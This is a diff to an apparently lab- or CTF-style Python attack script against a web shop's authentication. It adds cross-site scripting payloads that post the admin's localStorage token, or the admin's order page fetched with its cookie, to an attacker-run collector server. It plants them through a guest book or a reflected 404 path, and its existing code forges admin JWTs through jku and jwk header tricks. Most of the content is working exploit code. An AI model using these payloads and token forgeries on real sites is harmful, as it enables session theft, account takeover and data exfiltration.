@@ -6,6 +6,8 @@ import threading
 from collections.abc import Iterator
 from contextlib import contextmanager
 from http.server import BaseHTTPRequestHandler, HTTPServer
+from types import SimpleNamespace
+from urllib.parse import quote
 
 import jwt
 import requests
@@ -15,6 +17,10 @@ from loot import ADMIN, Loot, claims_of, encoded, forged, present
 
 MY_KEY = generate_private_key(SECP256R1())
 MY_PUBLIC_KEY = ECAlgorithm.to_jwk(MY_KEY.public_key(), as_dict=True) | {"alg": "ES256", "kid": "mine"}
+# What we write where the shop may show it to the admin. Nobody has such a picture, so the script runs.
+SENDS_TOKEN = """<img src="" onerror="fetch('%s', {method: 'POST', mode: 'no-cors', body: localStorage.access || ''})">"""
+SENDS_ORDERS = """<img src="" onerror="fetch('/orders/').then(got => got.ok && got.text())
+.then(body => fetch('%s', {method: 'POST', mode: 'no-cors', body: body || ''}))">"""
 TOKEN = re.compile(r"[\w-]+\.[\w-]+\.[\w-]{20,}")
 
 
@@ -30,8 +36,8 @@ def jwk(loot: Loot) -> requests.Response:
 
 def jku(loot: Loot) -> requests.Response:
     """The token names the address where its public key lies: a server of ours."""
-    with serving({"keys": [MY_PUBLIC_KEY]}) as address:
-        return present(loot, signed_by_me(loot, jku=address))
+    with stranger(json.dumps({"keys": [MY_PUBLIC_KEY]})) as ours:
+        return present(loot, signed_by_me(loot, jku=ours.address))
 
 
 def edited_payload(loot: Loot) -> requests.Response:
@@ -62,6 +68,26 @@ def token_in_log(loot: Loot) -> requests.Response:
     return got if got.ok else requests.get(f"{loot.url}/user-orders/?token={loot.access}", timeout=10)
 
 
+def script_reads_storage(loot: Loot) -> requests.Response:
+    """A script of ours in the admin's page sends us the token that the page keeps in localStorage."""
+    with stranger() as ours:
+        leave(loot, SENDS_TOKEN % ours.address)
+        return present(loot, ours.holds)
+
+
+def script_rides_along(loot: Loot) -> requests.Response:
+    """From an HttpOnly cookie it can read nothing. It asks for the orders, with the cookie, and sends us the response."""
+    with stranger() as ours:
+        leave(loot, SENDS_ORDERS % ours.address)
+        return requests.get(ours.address, timeout=10) if ours.holds else present(loot, "")
+
+
+def leave(loot: Loot, script: str) -> None:
+    """Write it into the guest book, where there is one; else into an address, which the page for a 404 repeats."""
+    written = requests.post(f"{loot.url}/guest-book/", data={"entry": script}, timeout=10)
+    loot.admin_opens("/guest-book/" if written.ok else f"/guest-book/{quote(script, safe='')}")
+
+
 def signed_by_me(loot: Loot, **header: object) -> str:
     """The own access token, rewritten to be the admin's and signed with a key pair of ours."""
     claims = claims_of(loot.access) | ADMIN
@@ -69,19 +95,24 @@ def signed_by_me(loot: Loot, **header: object) -> str:
 
 
 @contextmanager
-def serving(content: dict) -> Iterator[str]:
-    """The address of a small server on this machine that gives this JSON to everybody."""
+def stranger(holds: str = "") -> Iterator[SimpleNamespace]:
+    """A small server of ours on this machine: its `address`, and the text that it `holds`: this, or what came last."""
 
     class Handler(BaseHTTPRequestHandler):
         def do_GET(self) -> None:
             self.send_response(200)
             self.end_headers()
-            self.wfile.write(json.dumps(content).encode())
+            self.wfile.write(ours.holds.encode())
+
+        def do_POST(self) -> None:
+            ours.holds = self.rfile.read(int(self.headers["Content-Length"])).decode()
+            self.do_GET()
 
         def log_message(self, *_args: object) -> None:
             """Says nothing."""
 
     with HTTPServer(("127.0.0.1", 0), Handler) as server:
+        ours = SimpleNamespace(address=f"http://127.0.0.1:{server.server_port}/", holds=holds)
         threading.Thread(target=server.serve_forever, daemon=True).start()
-        yield f"http://127.0.0.1:{server.server_port}/keys.json"
+        yield ours
         server.shutdown()
